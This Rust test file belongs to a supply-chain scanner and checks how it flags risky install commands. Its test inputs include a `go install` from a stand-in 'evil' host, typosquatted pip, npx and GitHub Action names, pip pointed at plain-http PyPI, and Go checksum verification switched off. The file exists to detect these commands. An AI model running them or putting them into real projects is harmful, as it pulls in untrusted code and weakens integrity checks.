//! Edges of the supply family that mutation testing found unpinned (#27):
//! a Go install argument is a module only when its first element names a
//! host (holds a dot) *and* a path follows it; a versioned `pip3.11` is an
//! installer; only the listed publishers own their namespace; a URL after
//! cargo's other flags (`--index`) is not what it installs; a server's
//! version cut at its `@`, the official index over plain http, and Go's
//! insecure variables set, empty or zero (seed 30).

use crate::scan::Severity::{High, Medium};
use crate::scan::testutil::{assert_absent, assert_severity};

#[test]
fn a_go_argument_is_a_module_only_with_a_host_and_a_path() {
    // Host and path: a module from an unknown host.
    assert_severity("go install go.evil.example/cmd/tool@latest\n", "supply.remote-install", Medium);
    // A file name has a dot but no path; a GOPATH package has a path but no
    // host: neither is fetched from anywhere.
    assert_absent("go install main.go\n", "supply.remote-install");
    assert_absent("go get tools/gen@latest\n", "supply.remote-install");
}

#[test]
fn only_a_listed_publisher_owns_its_namespace() {
    // `hashicorp/…` is popular but not in a namespace only its publisher can
    // write to: two edits stay `Medium` though the owner is the same.
    let wf = "```yaml\nsteps:\n  - uses: hashicorp/setup-terrafarn@v3\n```\n";
    assert_severity(wf, "supply.typosquat", Medium);
}

#[test]
fn a_versioned_pip_is_an_installer() {
    assert_severity("pip3 install reqeusts\n", "supply.typosquat", High);
    assert_severity("pip3.11 install reqeusts\n", "supply.typosquat", High);
}

#[test]
fn only_cargo_reads_a_url_after_a_flag_as_its_git_source() {
    use super::install::{Target, install_args};
    // `--index URL` names a registry, not what is installed.
    let args = install_args("cargo install --index https://crates.internal.example/index mycrate");
    assert!(args.iter().all(|a| !matches!(a.target, Target::Url { .. })), "{args:?}");
    // `--git URL` is what cargo installs.
    let args = install_args("cargo install --git https://git.example.dev/tool");
    assert!(
        args.iter().any(|a| a.target == Target::Url { url: "https://git.example.dev/tool", git: true }),
        "{args:?}"
    );
}

#[test]
fn a_version_after_a_servers_name_is_cut_at_its_at_sign() {
    let cfg = |arg: &str| {
        format!(
            "```json\n{{\"mcpServers\": {{\"gh\": {{\n  \"command\": \"npx\",\n  \"args\": [\"-y\", \"{arg}\"]\n}}}}}}\n```\n"
        )
    };
    // The look-alike name is what is left before `@1.2.0`, to the byte.
    assert_severity(&cfg("@modelcontextprotocol/server-githbu@1.2.0"), "supply.typosquat", High);
    assert_absent(&cfg("@modelcontextprotocol/server-github@1.2.0"), "supply.typosquat");
    // A one-letter name with a version: no name to cut short of.
    assert_absent(&cfg("x@1"), "supply.typosquat");
}

#[test]
fn the_official_index_over_plain_http_is_an_override() {
    let pip = |url: &str| format!("```bash\npip install --index-url {url} requests\n```\n");
    assert_absent(&pip("https://pypi.org/simple"), "supply.index-override");
    assert_severity(&pip("http://pypi.org/simple"), "supply.index-override", High);
}

#[test]
fn goinsecure_with_a_value_turns_checks_off_and_empty_or_zero_does_not() {
    let go = |env: &str| format!("```bash\n{env} go install gitlab.example.dev/x/cobra@latest\n```\n");
    assert_severity(&go("GOINSECURE=gitlab.example.dev"), "supply.checksum-off", High);
    assert_severity(&go("GONOSUMCHECK=1"), "supply.checksum-off", High);
    assert_absent(&go("GOINSECURE=''"), "supply.checksum-off");
    assert_absent(&go("GONOSUMCHECK=0"), "supply.checksum-off");
}
